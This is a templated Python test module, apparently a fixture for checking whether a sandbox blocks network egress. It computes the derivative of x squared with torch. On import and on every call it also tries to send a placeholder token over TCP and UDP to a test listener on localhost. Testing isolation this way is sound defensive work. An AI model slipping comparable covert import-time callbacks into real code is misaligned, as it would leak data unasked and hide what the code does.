"""Hostile: connect to the test's TCP listener on 127.0.0.1:{{PORT}} and send a token.

Connection attempts are bounded by short timeouts; the module then answers correctly.
"""

import socket

import torch

TOKEN = b"{{TOKEN}}"


def _exfiltrate(tag):
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            with socket.create_connection((host, {{PORT}}), timeout=2) as connection:
                connection.sendall(TOKEN + b" " + tag.encode())
            print(f"[{tag}] sent the token to {host}")
        except OSError as error:
            print(f"[{tag}] {host}: {type(error).__name__}: {error}")
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(TOKEN, ("127.0.0.1", {{PORT}}))
        udp.close()
    except OSError as error:
        print(f"[{tag}] udp: {type(error).__name__}")


_exfiltrate("import")


def derivative_square(x0):
    _exfiltrate("call")
    x = torch.tensor(float(x0), requires_grad=True)
    (x**2).backward()
    return x.grad
